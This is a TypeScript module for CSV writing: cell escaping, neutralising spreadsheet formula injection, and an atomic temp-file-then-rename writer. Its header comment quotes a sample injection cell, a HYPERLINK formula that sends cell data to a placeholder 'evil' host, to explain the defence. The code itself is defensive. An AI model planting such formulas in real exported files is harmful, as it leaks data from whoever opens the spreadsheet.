/* eslint-disable max-lines -- CSV quoting and the atomic writer with its safety checks (same file, devices, stale temporaries) are one output path */
/**
 * CSV writing: a fast cell escaper and row serializer (RFC 4180), formula-injection
 * neutralisation, and `AtomicFileWriter`, which writes a file so that the target is either
 * the complete new file or untouched (temp file in the same directory, then rename).
 *
 * Formula injection: Excel, WPS and LibreOffice execute a cell that begins with `=`, `+`,
 * `-` or `@` as a formula (and a leading tab or CR is stripped before that check by some of
 * them), so a roster cell such as `=HYPERLINK("http://evil/?"&A1,"点击")` copied from input
 * to output would run on the caseworker's machine when the result is opened. Neutralising
 * puts an apostrophe `'` in front, which spreadsheets show as text and do not execute. It
 * changes the cell, so it is applied only to cells that come from input text: a negative
 * number such as `-5` *is* neutralised (`'-5`) when it is text copied from the input, which
 * is why `serializeRow` neutralises string cells only and leaves numbers the program
 * computed alone, and why `neutraliseFormula` is exported for callers that choose per cell.
 */
import { randomBytes } from 'node:crypto';
import { open, realpath, rename, stat, unlink, type FileHandle } from 'node:fs/promises';
import { readdirSync, rmSync } from 'node:fs';
import { basename, dirname, join } from 'node:path';
import { BencalcError } from '../errors.js';
import type { Encoding } from './encoding.js';
import { OutputEncoder } from './output-bytes.js';
import { isWhitespaceCode } from '../domain/values.js';

export const UTF8_BOM = '\uFEFF';

/** What a cell may hold; `null` and `undefined` are written as empty cells. */
export type CellValue = string | number | bigint | boolean | null | undefined;

const QUOTES = /"/g;

/**
 * One cell, quoted when needed (quotes inside doubled): when it holds a quote, comma, CR or
 * LF, or starts or ends with whitespace (what `\s` matches). A char-code scan rather than a
 * regular expression, since batch runs this for every cell it writes.
 */
export function escapeCell(cell: string): string {
  const n = cell.length;
  if (n === 0) return cell;
  if (isWhitespaceCode(cell.charCodeAt(0)) || isWhitespaceCode(cell.charCodeAt(n - 1))) return quoted(cell);
  for (let i = 0; i < n; i++) {
    const c = cell.charCodeAt(i);
    // " , CR LF
    if (c === 34 || c === 44 || c === 13 || c === 10) return quoted(cell);
  }
  return cell;
}

function quoted(cell: string): string {
  return '"' + cell.replace(QUOTES, '""') + '"';
}

/**
 * A cell that a spreadsheet would execute (leading `=`, `+`, `-`, `@`, tab or CR, or a
 * full-width ＝ ＋ － ＠) with an apostrophe in front; any other cell unchanged. See the module comment for when to use it.
 */
export function neutraliseFormula(cell: string): string {
  if (cell.length === 0) return cell;
  return isFormulaStartCode(cell.charCodeAt(0)) ? "'" + cell : cell;
}

/**
 * Whether a cell starting with this character is read as a formula: = + - @ TAB CR, and their
 * full-width forms ＝ ＋ － ＠, which Chinese input methods type and some spreadsheets take too.
 */
export function isFormulaStartCode(c: number): boolean {
  return c === 61 || c === 43 || c === 45 || c === 64 || c === 9 || c === 13 || c === 0xff1d || c === 0xff0b || c === 0xff0d || c === 0xff20;
}

export interface RowOptions {
  /**
   * Neutralise formula-like string cells: `true` for all string cells, or a per-column mask
   * (true = this column comes from input text). Numbers and booleans are never touched.
   * Default false.
   */
  neutralise?: boolean | readonly boolean[];
  /** Line terminator (default CRLF, as RFC 4180 and Excel). */
  newline?: '\r\n' | '\n';
}

function cellText(v: CellValue, neutralise: boolean): string {
  if (typeof v === 'string') return escapeCell(neutralise ? neutraliseFormula(v) : v);
  if (v === null || v === undefined) return '';
  return String(v);
}

/**
 * One row with its line terminator. A row of one empty cell is written `""`, since an empty
 * line would be read as no record at all.
 */
export function serializeRow(cells: readonly CellValue[], opts: RowOptions = {}): string {
  const nl = opts.newline ?? '\r\n';
  const n = opts.neutralise ?? false;
  let out = '';
  for (let i = 0; i < cells.length; i++) {
    const neut = n === true || (n !== false && n[i] === true);
    out += (i === 0 ? '' : ',') + cellText(cells[i], neut);
  }
  if (out.length === 0 && cells.length === 1) out = '""';
  return out + nl;
}

/** Rows to one CSV text, with a UTF-8 BOM in front when asked. */
export function serializeCsv(rows: Iterable<readonly CellValue[]>, opts: RowOptions & { bom?: boolean } = {}): string {
  let out = opts.bom === true ? UTF8_BOM : '';
  for (const row of rows) out += serializeRow(row, opts);
  return out;
}

function ioError(file: string, en: string, zh: string, cause?: unknown): BencalcError {
  return new BencalcError({ code: 'IO', file, en: `${file}: ${en}`, zh: `${file}：${zh}`, ...(cause !== undefined && { cause }) });
}

function errCode(e: unknown): string | undefined {
  const c = (e as { code?: unknown } | null)?.code;
  return typeof c === 'string' ? c : undefined;
}

/**
 * Where writing `target` really lands: its real path when it exists (through symlinks),
 * else the real path of its directory joined with its name. IO error when the directory
 * does not exist or the target is a directory.
 */
export async function resolveOutputPath(target: string): Promise<{ path: string; exists: boolean; dev?: number; ino?: number; mode?: number }> {
  try {
    const real = await realpath(target);
    const st = await stat(real);
    if (st.isDirectory()) throw ioError(target, 'is a directory; give a file name for the output', '是目录；请给出输出文件名');
    // Writing goes to a temporary file renamed over the target: that would replace a device or a pipe.
    if (!st.isFile()) throw ioError(target, 'is not a regular file (a device or a pipe); to send the results there, leave out -o and redirect stdout', '不是普通文件（设备或管道）；如需输出到那里，请去掉 -o 并重定向标准输出');
    return { path: real, exists: true, dev: st.dev, ino: st.ino, mode: st.mode };
  } catch (e) {
    if (e instanceof BencalcError) throw e;
    if (errCode(e) !== 'ENOENT') throw ioError(target, `cannot be resolved (${errCode(e) ?? String(e)})`, `无法解析路径（${errCode(e) ?? String(e)}）`, e);
  }
  const dir = dirname(target);
  try {
    return { path: join(await realpath(dir), basename(target)), exists: false };
  } catch (e) {
    throw ioError(target, `the directory ${dir} does not exist`, `目录 ${dir} 不存在`, e);
  }
}

/**
 * Usage error when two output flags name one file (by real path, or through a hard link):
 * the second would overwrite the first. `names` are the flags, for the message.
 */
export async function assertDistinctOutputs(a: string, b: string, names: readonly [string, string]): Promise<void> {
  const [x, y] = await Promise.all([resolveOutputPath(a), resolveOutputPath(b)]);
  const same = x.path === y.path || (x.exists && y.exists && x.dev === y.dev && x.ino === y.ino);
  if (!same) return;
  throw new BencalcError({
    code: 'USAGE',
    file: b,
    en: `${names[0]} and ${names[1]} name the same file (${a}); the one would overwrite the other — choose two paths`,
    zh: `${names[0]} 与 ${names[1]} 指向同一个文件（${a}），后写的会覆盖先写的；请分别指定`,
  });
}

/**
 * IO error when writing `target` would overwrite one of `inputs` (same real path, or the
 * same file through a hard link). Inputs that do not exist (or are `-`, stdin) are skipped.
 */
export async function assertNotSameFile(target: string, inputs: readonly string[]): Promise<void> {
  const out = await resolveOutputPath(target);
  for (const input of inputs) {
    if (input === '-') continue;
    let real: string;
    let same: boolean;
    try {
      real = await realpath(input);
      same = real === out.path;
      if (!same && out.exists) {
        const st = await stat(real);
        same = st.dev === out.dev && st.ino === out.ino;
      }
    } catch {
      continue;
    }
    if (same) {
      throw new BencalcError({
        code: 'IO',
        file: target,
        en: `refusing to write ${target}: it is the input file ${input}; choose another output path`,
        zh: `拒绝写入 ${target}：它就是输入文件 ${input}；请另选输出路径`,
      });
    }
  }
}

export interface AtomicWriterOptions {
  /** Input files the target must not be (IO error if it is). */
  inputs?: readonly string[];
  /** Output encoding (default utf8). */
  encoding?: Encoding;
  /** Start a UTF-8 file with a BOM, which Excel needs to open UTF-8 CSV correctly. */
  bom?: boolean;
  /** Record ends as CRLF (output-bytes.ts); the text written has LF. */
  crlf?: boolean;
  /** Buffer this many characters before writing (default 64 Ki). */
  chunkSize?: number;
}

/** Written bytes after which the writer asks the system to put them on disk, in the background. */
const BACKGROUND_SYNC_BYTES = 32 * 1024 * 1024;

/**
 * Writes `target` atomically: everything goes to `.bencalc-tmp-<pid>-<random>` in the same
 * directory (so the rename cannot cross file systems), in ~64 KiB writes; `commit()` syncs
 * and renames it onto the target, `abort()` removes it. The target is either the complete
 * new file or left as it was.
 *
 * `write()` returns `undefined` while it only buffered, and a promise when it started a
 * disk write: await it (backpressure). That promise never rejects; a write error is thrown
 * by the next `write()` or by `commit()`, so an ignored promise cannot crash the process.
 */
export class AtomicFileWriter {
  readonly target: string;
  readonly tempPath: string;
  private readonly realTarget: string;
  private fh: FileHandle | undefined;
  private readonly encoding: Encoding;
  /** The text's UTF-8 bytes, LF record ends, to the file's encoding and record ends. */
  private readonly encoder: OutputEncoder;
  private readonly chunkSize: number;
  private pending = '';
  private chain: Promise<void> = Promise.resolve();
  /** Bytes written since the last background sync was asked for, and the syncs asked for (one at a time). */
  private unsynced = 0;
  private syncs: Promise<void> = Promise.resolve();
  private error: unknown;
  private state: 'open' | 'committed' | 'aborted' = 'open';
  /** Whether everything written is on disk (`sync()`), until the next write. */
  private synced = false;

  private constructor(target: string, realTarget: string, tempPath: string, fh: FileHandle, opts: AtomicWriterOptions) {
    this.target = target;
    this.realTarget = realTarget;
    this.tempPath = tempPath;
    this.fh = fh;
    this.encoding = opts.encoding ?? 'utf8';
    this.encoder = new OutputEncoder({ encoding: this.encoding, crlf: opts.crlf ?? false });
    this.chunkSize = opts.chunkSize ?? 64 * 1024;
    if (opts.bom === true && this.encoding === 'utf8') this.pending = UTF8_BOM;
  }

  /** Check the target (directory exists, not an input) and create the temp file. */
  static async open(target: string, opts: AtomicWriterOptions = {}): Promise<AtomicFileWriter> {
    await assertNotSameFile(target, opts.inputs ?? []);
    const out = await resolveOutputPath(target);
    const tempPath = join(dirname(out.path), `.bencalc-tmp-${process.pid}-${randomBytes(6).toString('hex')}`);
    let fh: FileHandle;
    try {
      fh = await open(tempPath, 'wx', 0o666);
    } catch (e) {
      throw ioError(target, `cannot create a file in ${dirname(out.path)} (${errCode(e) ?? String(e)})`, `无法在 ${dirname(out.path)} 中创建文件（${errCode(e) ?? String(e)}）`, e);
    }
    if (out.mode !== undefined) {
      // Keep the permissions of the file being replaced.
      await fh.chmod(out.mode & 0o7777).catch(() => undefined);
    }
    return new AtomicFileWriter(target, out.path, tempPath, fh, opts);
  }

  /** Buffer `text`; returns a promise to await when a chunk went to disk. */
  write(text: string): Promise<void> | undefined {
    this.assertWritable();
    this.synced = false;
    this.pending += text;
    if (this.pending.length >= this.chunkSize) return this.flushPending();
    return undefined;
  }

  /**
   * Write UTF-8 bytes with LF record ends (what batch's worker threads hand back), turned into
   * the file's encoding and record ends. Text buffered by `write()` goes first.
   */
  writeBytes(bytes: Uint8Array): Promise<void> {
    this.assertWritable();
    this.synced = false;
    void this.flushPending();
    return this.enqueue(this.encoder.bytes(bytes));
  }

  private assertWritable(): void {
    if (this.state !== 'open') throw ioError(this.target, `write after ${this.state}`, `已${this.state === 'committed' ? '提交' : '放弃'}后又写入`);
    if (this.error !== undefined) throw this.failure();
  }

  /** `write(serializeRow(cells, opts))`. */
  writeRow(cells: readonly CellValue[], opts?: RowOptions): Promise<void> | undefined {
    return this.write(serializeRow(cells, opts));
  }

  /** Write out everything buffered. */
  async flush(): Promise<void> {
    await this.flushPending();
    if (this.error !== undefined) throw this.failure();
  }

  private flushPending(): Promise<void> {
    if (this.pending.length === 0) return this.chain;
    const text = this.pending;
    this.pending = '';
    return this.enqueue(this.encoder.text(text));
  }

  /** Queue `data` after the writes already queued; the promise never rejects (see `write`). */
  private enqueue(data: Uint8Array): Promise<void> {
    const fh = this.fh;
    this.chain = this.chain.then(async () => {
      if (this.error !== undefined || fh === undefined) return;
      try {
        let off = 0;
        while (off < data.length) {
          const { bytesWritten } = await fh.write(data, off, data.length - off);
          off += bytesWritten;
        }
        this.unsynced += data.length;
        if (this.unsynced >= BACKGROUND_SYNC_BYTES) {
          // What is written so far goes to disk while the run goes on, so that the sync
          // before the rename (commit) has only the last few megabytes left to wait for.
          this.unsynced = 0;
          this.syncs = this.syncs.then(() => fh.datasync()).catch((e: unknown) => {
            this.error ??= e;
          });
        }
      } catch (e) {
        this.error = e;
      }
    });
    return this.chain;
  }

  private failure(): BencalcError {
    const e = this.error;
    if (e instanceof BencalcError) return e;
    return ioError(this.target, `cannot be written (${errCode(e) ?? String(e)})`, `无法写入（${errCode(e) ?? String(e)}）`, e);
  }

  /** Flush, sync and rename the temp file onto the target. On failure the temp file is removed. */
  /**
   * Put everything written so far on disk, without renaming: the wait of `commit()`, which
   * a caller can overlap with other work (batch checks its run meanwhile); then `commit()`
   * only renames, unless more was written.
   */
  async sync(): Promise<void> {
    if (this.state !== 'open') return;
    try {
      await this.flushPending();
      await this.syncs;
      if (this.error !== undefined) throw this.failure();
      await this.fh!.sync();
      this.synced = true;
    } catch (e) {
      this.error ??= e;
    }
  }

  /** Whether `sync()` met a write or sync error (`commit()` would throw it). */
  get failed(): boolean {
    return this.error !== undefined;
  }

  async commit(): Promise<void> {
    if (this.state === 'committed') return;
    if (this.state === 'aborted') throw ioError(this.target, 'commit after abort', '放弃后又提交');
    try {
      if (!this.synced) {
        await this.flushPending();
        await this.syncs;
        if (this.error !== undefined) throw this.failure();
        await this.fh!.sync();
      }
      if (this.error !== undefined) throw this.failure();
      const fh = this.fh!;
      this.fh = undefined;
      await fh.close();
      await rename(this.tempPath, this.realTarget);
      this.state = 'committed';
    } catch (e) {
      await this.abort();
      if (e instanceof BencalcError) throw e;
      throw ioError(this.target, `cannot be written (${errCode(e) ?? String(e)})`, `无法写入（${errCode(e) ?? String(e)}）`, e);
    }
  }

  /** Drop everything: close and remove the temp file; the target is untouched. Idempotent. */
  async abort(): Promise<void> {
    if (this.state !== 'open') return;
    this.state = 'aborted';
    this.pending = '';
    await this.chain;
    await this.syncs;
    const fh = this.fh;
    this.fh = undefined;
    if (fh !== undefined) await fh.close().catch(() => undefined);
    await unlink(this.tempPath).catch(() => undefined);
  }
}

/**
 * Commit several outputs together (batch's results and its errors file): all are synced
 * first, and only when every one is on disk are they renamed into place. If any fails (a
 * full disk shows at the write or the sync), none is renamed, every temporary is removed,
 * and the first failure is thrown. A rename after a good sync fails only in a directory
 * that turned read-only or vanished meanwhile; the later ones are then dropped too.
 * Absent writers (an output not asked for) are skipped.
 */
export async function commitAll(writers: readonly (AtomicFileWriter | undefined)[]): Promise<void> {
  const all = writers.filter((w): w is AtomicFileWriter => w !== undefined);
  await Promise.all(all.map((w) => w.sync()));
  const failed = all.find((w) => w.failed);
  try {
    if (failed) await failed.commit(); // throws its error (as an IO error naming its file), and removes its temporary
    for (const w of all) await w.commit();
  } catch (e) {
    await Promise.all(all.map((w) => w.abort()));
    throw e;
  }
}

/** The names of bencalc's temporary files, with the pid of the run that made them. */
const TEMPORARY_NAME = /^\.?bencalc-(?:tmp|in|keys|parts)-(\d+)-/;

/**
 * Remove the temporary files and folders in `dir` that a run no longer alive left behind (a
 * run killed with SIGKILL cannot clean up): those named with a pid that no process has. A
 * pid in use, even by another program, is left alone. Returns how many were removed.
 */
export function removeStaleTemporaries(dir: string): number {
  let removed = 0;
  let names: string[];
  try {
    names = readdirSync(dir);
  } catch {
    return 0;
  }
  for (const name of names) {
    const pid = Number(TEMPORARY_NAME.exec(name)?.[1]);
    if (!pid || pid === process.pid || isAlive(pid)) continue;
    try {
      rmSync(join(dir, name), { force: true, recursive: true });
      removed++;
    } catch {
      // Not ours to remove after all (permissions): leave it.
    }
  }
  return removed;
}

function isAlive(pid: number): boolean {
  try {
    process.kill(pid, 0);
    return true;
  } catch (e) {
    return (e as NodeJS.ErrnoException).code === 'EPERM';
  }
}
